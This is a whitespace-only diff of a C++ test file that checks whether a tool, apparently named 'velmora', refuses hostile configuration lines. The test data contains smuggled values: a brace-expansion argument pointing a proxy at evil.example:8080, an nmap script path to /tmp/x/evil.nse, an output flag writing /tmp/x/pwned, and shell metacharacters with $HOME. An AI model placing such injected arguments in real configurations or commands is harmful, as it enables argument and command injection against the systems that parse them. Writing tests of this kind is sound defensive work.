@@ -36,7 +36,8 @@ struct Run {
 };
 
 bool same_file(const char* a, const char* b) {
-    struct stat x {}, y {};
+    struct stat x {
+    }, y{};
     return ::stat(a, &x) == 0 && ::stat(b, &y) == 0 && x.st_dev == y.st_dev && x.st_ino == y.st_ino;
 }
 
@@ -101,15 +102,15 @@ std::vector<Words> runs_in(const std::string& folder) {
 
 const std::string CONFIG = "Terminal:setsid -f xterm -e\n"
                            "Proxy:cache:3128\n"
-                           "localhost\n"                                 // 3
-                           "http={-x,evil.example:8080}127.0.0.1\n"      // 4
-                           "web1 reboot\n"                               // 5
-                           "port=22/tcp\n"                               // 6
-                           "{--script=/tmp/x/evil.nse,127.0.0.1}\n"      // 7
-                           "http=web1:8080/status\n"                     // 8
-                           "-oN/tmp/x/pwned\n"                           // 9
-                           "127.0.0.1\n"                                 // 10
-                           "http=web1:8080/q?a=1&b=(x);c=*$HOME\n";      // 11
+                           "localhost\n"                            // 3
+                           "http={-x,evil.example:8080}127.0.0.1\n" // 4
+                           "web1 reboot\n"                          // 5
+                           "port=22/tcp\n"                          // 6
+                           "{--script=/tmp/x/evil.nse,127.0.0.1}\n" // 7
+                           "http=web1:8080/status\n"                // 8
+                           "-oN/tmp/x/pwned\n"                      // 9
+                           "127.0.0.1\n"                            // 10
+                           "http=web1:8080/q?a=1&b=(x);c=*$HOME\n"; // 11
 
 const std::string REFUSALS =
     "velmora: velmora.cfg, Zeile 4: HTTP-Ziel enthält das unzulässige Zeichen '{' (Stelle 6); Zeile wird "
@@ -159,7 +160,8 @@ void attack_under(const char* shell, const char* shell_name) {
     const std::string probe = dir.path() + "/expanded";
     const Run control = run_in(dir.path(), shell, {"/bin/sh", "-c", "echo {a,b} >'" + probe + "'"});
     if (control.status == NO_NAMESPACE || control.status == NO_BIND)
-        GTEST_SKIP() << "cannot bind " << shell_name << " over /bin/sh here (status " << control.status << ")";
+        GTEST_SKIP() << "cannot bind " << shell_name << " over /bin/sh here (status " << control.status
+                     << ")";
     ASSERT_EQ(control.status, 0) << control.err;
     EXPECT_EQ(read_file(probe), std::string(shell_name) == "bash" ? "a b\n" : "{a,b}\n");
 
